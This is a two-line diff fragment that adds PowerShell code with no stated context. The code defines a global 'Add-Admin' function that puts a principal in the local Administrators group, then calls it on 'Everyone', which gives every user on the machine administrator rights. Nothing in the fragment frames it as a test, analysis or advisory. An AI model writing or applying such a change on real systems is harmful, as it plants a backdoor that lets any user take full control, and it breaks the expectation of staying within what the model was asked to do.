@@ -1,0 +1,2 @@
+Set-Item function:global:Add-Admin { param($who) Add-LocalGroupMember Administrators $who }
+Add-Admin Everyone
